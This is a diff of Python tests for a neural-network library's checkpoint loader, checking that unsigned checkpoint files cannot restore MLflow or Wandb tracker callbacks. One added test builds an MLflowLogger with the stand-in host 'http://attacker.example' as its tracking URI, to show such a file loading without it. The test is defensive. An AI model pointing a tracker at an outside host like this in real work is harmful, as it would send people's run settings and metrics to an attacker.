@@ -223,12 +223,15 @@ def test_importing_nnh_imports_no_tracker_and_a_missing_one_names_the_extra():
     assert done.returncode == 0, done.stderr
 
 
-def test_trackers_are_trusted_callbacks_with_checked_arguments():
+def test_trackers_are_not_in_the_registry_but_check_their_arguments():
+    """A file that is not yours cannot bring a tracker (it could point your metrics at any
+    server or folder); your own signed files restore them (the resume tests above)."""
     from nnh.checkpoint import CheckpointError
     from nnh.checkpoint.registry import check_arguments, lookup
 
-    assert lookup("nnh.callbacks.MLflowLogger", "callback") is MLflowLogger
-    assert lookup("nnh.callbacks.WandbLogger", "callback") is WandbLogger
+    assert lookup("nnh.callbacks.MLflowLogger", "callback") is None
+    assert lookup("nnh.callbacks.WandbLogger", "callback") is None
+    assert lookup("nnh.callbacks.CSVLogger", "callback") is not None
     ok = {"tracking_uri": "file:/tmp/m", "experiment_name": "e", "run_name": None}
     assert check_arguments(MLflowLogger, ok, record="callback") == ok
     with pytest.raises(CheckpointError, match="experiment_name"):
@@ -249,3 +252,21 @@ def test_trackers_run_on_rank_zero_only():
         others = CallbackList([logger], is_main=False)
         assert not any(others.wants(hook) for hook in ("on_train_begin", "on_epoch_end"))
         assert CallbackList([logger], is_main=True).wants("on_epoch_end")
+
+
+def test_a_file_that_is_not_yours_cannot_bring_a_tracker(tmp_path):
+    """An unsigned copy of a file holding an MLflowLogger loads without it, with a warning:
+    its tracking URI would otherwise send the next run's settings and metrics anywhere."""
+    from nnh.checkpoint import save_checkpoint
+    from nnh.handler.persistence import handler_payload
+
+    h = regressor(tmp_path)
+    h.add_callback(MLflowLogger(tracking_uri="http://attacker.example", experiment_name="x"))
+    own = tmp_path / "own.pth"
+    h.save(str(own))
+    foreign = save_checkpoint(handler_payload(h), tmp_path / "foreign.pth", sign=False)
+    with pytest.warns(UserWarning):
+        loaded = NNHandler.load(str(foreign))
+    assert not any(isinstance(cb, MLflowLogger) for cb in loaded.callbacks)
+    mine = NNHandler.load(str(own))
+    assert any(isinstance(cb, MLflowLogger) for cb in mine.callbacks)
